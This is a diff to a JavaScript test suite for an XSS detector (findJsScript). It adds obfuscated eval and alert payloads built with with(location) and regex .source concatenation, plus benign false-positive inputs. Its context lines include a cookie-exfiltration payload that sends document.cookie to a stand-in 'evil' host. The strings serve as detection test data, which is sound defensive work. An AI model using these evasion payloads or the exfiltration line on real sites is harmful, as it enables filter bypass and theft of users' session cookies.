@@ -36,6 +36,9 @@ describe('findJsScript', () => {
     ['var run = eval; run(name)', XSS_RULES.jsSinkAsValue],
     [`eval(atob('YWxlcnQoMSk='))`, XSS_RULES.jsEvalDecoded],
     [`setTimeout('al'+'ert(1)')`, XSS_RULES.jsEvalDecoded],
+    ['with(location)with(hash)eval(substring(1))', XSS_RULES.jsEvalDecoded],
+    ['a=/ev/.source+/al/.source;top[a](1)', XSS_RULES.jsObfuscatedAccess],
+    ['/con/.source+/firm/.source', XSS_RULES.jsObfuscatedAccess],
     [`new Image().src='//evil/?c='+document.cookie`, XSS_RULES.cookieExfiltration],
     ['document.cookie', XSS_RULES.jsSensitiveProperty],
     ["eval('2 + 2')", XSS_RULES.jsSinkCall],
@@ -63,6 +66,8 @@ describe('findJsScript', () => {
     'level=alert, retry(3)',
     'mode=confirm; mode (default) asks first',
     'a=alert,b(1)',
+    'var re = new RegExp(/ab/.source + /cd/.source)',
+    'with (obj) { eval(code) }',
   ])('raises no critical paranoia-1 rule on %j', (input) => {
     expect(paranoiaOne(input)).toEqual([]);
   });
